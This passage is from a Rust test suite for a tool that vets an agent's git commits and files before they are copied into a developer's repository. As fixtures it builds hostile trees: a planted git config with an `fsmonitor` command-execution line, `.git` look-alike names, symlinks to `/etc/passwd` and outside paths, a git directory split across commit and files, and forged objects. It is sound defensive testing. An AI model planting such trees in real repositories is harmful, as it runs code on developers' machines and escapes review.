                let id = git_in(&r.agent, &["mktree"], Some(entry.as_bytes()))?;
                entry = format!("040000 tree {id}\t{d}\n");
            }
            let readme = r.git(&["rev-parse", "HEAD:README"])?;
            r.commit_tree(
                &format!("100644 blob {readme}\tREADME\n{entry}"),
                "innocent",
            )?;
            let before = r.target_git();
            let h = r.prepare(false)?;
            let got = whys(&h);
            assert!(got.iter().any(|(_, w)| w == want), "{path}: {got:?}");
            assert!(h.write().is_err());
            assert_eq!(r.target_git(), before, "{path}");
        }
        Ok(())
    }

    #[test]
    fn gitlinks_git_names_modes_and_git_dirs_in_trees_are_refused() -> TestResult {
        let r = Repo::new(&[])?;
        let blob = r.blob("x\n")?;
        let readme = r.git(&["rev-parse", "HEAD:README"])?;
        let head = r.git(&["rev-parse", "HEAD"])?;
        let sub = git_in(
            &r.agent,
            &["mktree"],
            Some(format!("100644 blob {blob}\tHEAD\n100644 blob {blob}\tcommondir\n").as_bytes()),
        )?;
        let lines = format!(
            "100644 blob {readme}\tREADME\n\
             160000 commit {head}\tvendor\n\
             100644 blob {blob}\tgit~1\n\
             040000 tree {sub}\tsrc\n"
        );
        r.commit_tree(&lines, "x")?;
        let h = r.prepare(false)?;
        let got = whys(&h);
        assert!(
            got.contains(&("vendor".into(), Refusal::Gitlink)),
            "{got:?}"
        );
        assert!(
            got.iter()
                .any(|(p, w)| p == "git~1" && matches!(w, Refusal::GitPath { .. })),
            "{got:?}"
        );
        assert!(
            got.contains(&("src".into(), Refusal::EmbeddedRepo)),
            "{got:?}"
        );

        // `.GIT` (a case-insensitive target's .git) and an HFS+-ignorable spelling.
        for name in [".GIT", ".g\u{200c}it", ".git."] {
            let r = Repo::new(&[])?;
            let blob = r.blob("[core]\n\tfsmonitor = touch /tmp/pwned\n")?;
            let cfg = git_in(
                &r.agent,
                &["mktree"],
                Some(format!("100644 blob {blob}\tconfig\n").as_bytes()),
            )?;
            let readme = r.git(&["rev-parse", "HEAD:README"])?;
            r.commit_tree(
                &format!("100644 blob {readme}\tREADME\n040000 tree {cfg}\t{name}\n"),
                "x",
            )?;
            let h = r.prepare(false)?;
            assert!(!h.refused.is_empty(), "{name} passed");
        }

        // A HEAD added where the target already holds untracked objects/ and refs/.
        let r = Repo::new(&[])?;
        std::fs::create_dir_all(r.target.join("data/objects"))?;
        std::fs::create_dir_all(r.target.join("data/refs"))?;
        let blob = r.blob("ref: refs/heads/main\n")?;
        let data = git_in(
            &r.agent,
            &["mktree"],
            Some(format!("100644 blob {blob}\tHEAD\n").as_bytes()),
        )?;
        let readme = r.git(&["rev-parse", "HEAD:README"])?;
        r.commit_tree(
            &format!("100644 blob {readme}\tREADME\n040000 tree {data}\tdata\n"),
            "x",
        )?;
        let h = r.prepare(false)?;
        assert_eq!(whys(&h), [("data".into(), Refusal::EmbeddedRepo)]);
        Ok(())
    }

    /// The commit adds `data/objects/` and `data/refs/` (then the agent removes them from
    /// its working tree); the file part adds only `data/HEAD`. Neither alone is a git
    /// directory; after `git reset --hard` the two together would be.
    #[test]
    fn a_git_directory_split_between_the_files_and_a_commit_is_refused() -> TestResult {
        let r = Repo::new(&[])?;
        std::fs::create_dir_all(r.agent.join("data/objects"))?;
        std::fs::create_dir_all(r.agent.join("data/refs"))?;
        std::fs::write(r.agent.join("data/objects/x"), "x\n")?;
        std::fs::write(r.agent.join("data/refs/y"), "y\n")?;
        r.git(&["add", "-A"])?;
        r.git(&["commit", "-qm", "fixtures"])?;
        std::fs::remove_dir_all(r.agent.join("data/objects"))?;
        std::fs::remove_dir_all(r.agent.join("data/refs"))?;
        std::fs::write(r.agent.join("data/HEAD"), "ref: refs/heads/main\n")?;
        let h = r.prepare(false)?;
        assert_eq!(whys(&h), [("data".into(), Refusal::EmbeddedRepo)]);
        Ok(())
    }

    /// A promoted symlink and a committed one, each fine alone: one may not resolve through
    /// the other once both are in the checkout.
    #[test]
    fn symlinks_may_not_chain_between_the_files_and_a_commit() -> TestResult {
        // The commit's `l -> x/y`, the promoted file `x -> README` (untracked).
        let r = Repo::new(&[])?;
        symlink("x/y", r.agent.join("l"))?;
        r.git(&["add", "l"])?;
        r.git(&["commit", "-qm", "link"])?;
        std::fs::remove_file(r.agent.join("l"))?;
        symlink("README", r.agent.join("x"))?;
        let h = r.prepare(false)?;
        assert_eq!(
            whys(&h),
            [(
                "l".into(),
                Refusal::SymlinkThroughLink {
                    via: PathBuf::from("x")
                }
            )]
        );

        // The commit's `x -> README`, the promoted file `l -> x/y`.
        let r = Repo::new(&[])?;
        symlink("README", r.agent.join("x"))?;
        r.git(&["add", "x"])?;
        r.git(&["commit", "-qm", "link"])?;
        std::fs::remove_file(r.agent.join("x"))?;
        symlink("x/y", r.agent.join("l"))?;
        let h = r.prepare(false)?;
        assert_eq!(
            whys(&h),
            [(
                "l".into(),
                Refusal::SymlinkThroughLink {
                    via: PathBuf::from("x")
                }
            )]
        );
        Ok(())
    }

    #[test]
    fn symlinks_in_trees_follow_the_file_rules() -> TestResult {
        let cases: &[(&str, &str)] = &[
            ("out", "../../outside"),
            ("abs", "/etc/passwd"),
            ("cfg", ".git/config"),
            ("env", "pkg/.envrc"),
            ("dd", "a/../../x"),
            ("via", "link2/x"),
        ];
        for (name, to) in cases {
            let r = Repo::new(&[])?;
            let link = r.blob(to)?;
            let other = r.blob("/tmp")?;
            let readme = r.git(&["rev-parse", "HEAD:README"])?;
            r.commit_tree(
                &format!(
                    "100644 blob {readme}\tREADME\n120000 blob {link}\t{name}\n120000 blob {other}\tlink2\n"
                ),
                "x",
            )?;
            let h = r.prepare(false)?;
            let got = whys(&h);
            assert!(
                got.iter().any(|(p, _)| p == name),
                "{name} -> {to}: {got:?}"
            );
        }
        // A link inside the tree is fine.
        let r = Repo::new(&[])?;
        std::fs::create_dir(r.agent.join("d"))?;
        std::fs::write(r.agent.join("d/x"), "x\n")?;
        symlink("../README", r.agent.join("d/readme"))?;
        r.git(&["add", "-A"])?;
        r.git(&["commit", "-qm", "ok"])?;
        let h = r.prepare(false)?;
        assert!(h.refused.is_empty(), "{:?}", h.refused);
        Ok(())
    }

    /// Only what a commit changes is checked: a protected file the developer tracks stays,
    /// but moving it (or its directory) somewhere new is a new entry.
    #[test]
    fn entries_identical_to_a_parents_pass_and_moved_ones_are_checked() -> TestResult {
        let r = Repo::new(&[(".envrc", "export X=1\n")])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        r.git(&["add", "a.py"])?;
        r.git(&["commit", "-qm", "a"])?;
        let h = r.prepare(false)?;
        assert!(h.refused.is_empty(), "{:?}", h.refused);

        let r = Repo::new(&[("cfg/.envrc", "export X=1\n")])?;
        r.git(&["mv", "cfg", "pkg"])?;
        r.git(&["commit", "-qm", "move"])?;
        let h = r.prepare(false)?;
        assert_eq!(
            whys(&h),
            [(
                "pkg/.envrc".into(),
                Refusal::Protected {
                    name: ".envrc".into()
                }
            )]
        );
        Ok(())
    }

    #[test]
    fn a_forged_object_or_a_bad_ref_refuses_the_history() -> TestResult {
        // A loose object whose content does not hash to its name.
        let r = Repo::new(&[])?;
        std::fs::write(r.agent.join("a.py"), "x = 1\n")?;
        r.git(&["add", "a.py"])?;
        r.git(&["commit", "-qm", "a"])?;
        let tip = r.git(&["rev-parse", "HEAD"])?;
        let tree = r.git(&["rev-parse", "HEAD^{tree}"])?;
        let (d, f) = tip.split_at(2);
        let (td, tf) = tree.split_at(2);
        let obj = r.agent.join(".git/objects");
        std::fs::copy(obj.join(td).join(tf), obj.join(d).join(f))?;
        let h = r.prepare(false)?;
        assert!(
            h.refused
                .iter()
                .any(|x| matches!(&x.why, Refusal::History { why } if why.contains("is a tree") || why.contains("does not hash"))),
            "{:?}",
            h.refused
        );

        // A ref that is not a 40-digit id, and one with a name git refuses.
        let r = Repo::new(&[])?;
        std::fs::create_dir_all(r.agent.join(".git/refs/heads"))?;
        std::fs::write(r.agent.join(".git/refs/heads/x"), "ref: refs/heads/main\n")?;
        std::fs::write(r.agent.join(".git/refs/heads/a..b"), format!("{tip}\n"))?;
        let h = r.prepare(false)?;
        let paths: Vec<String> = whys(&h).into_iter().map(|(p, _)| p).collect();
        assert_eq!(paths, [".git/refs/heads/a..b", ".git/refs/heads/x"]);
        Ok(())
    }

    #[test]
    fn packed_refs_are_parsed_strictly() {
        let a = "0123456789abcdef0123456789abcdef01234567";
        let ok = format!(
            "# pack-refs with: peeled fully-peeled sorted \n{a} refs/heads/main\n{a} refs/tags/v1\n^{a}\n"
        );
        let refs = parse_packed_refs(ok.as_bytes());
        assert_eq!(
            refs.map(|r| r.into_keys().collect::<Vec<_>>()),
            Ok(vec!["refs/heads/main".to_owned()])
        );
        for bad in [
            format!("{a} refs/heads/a..b\n"),
            format!("{a}  refs/heads/x\n"),
            format!("^{a}\n"),
            "zz refs/heads/x\n".to_owned(),
            format!("{} refs/heads/x\n", a.to_uppercase()),
        ] {
            assert!(parse_packed_refs(bad.as_bytes()).is_err(), "{bad:?}");
        }
        assert_eq!(
            parse_head(b"ref: refs/heads/main\n"),
            Some(Head::Branch("refs/heads/main".into()))
        );
        assert_eq!(parse_head(b"ref: refs/remotes/x\n"), None);
        assert_eq!(parse_head(b"ref: refs/heads/.x\n"), None);
    }
}
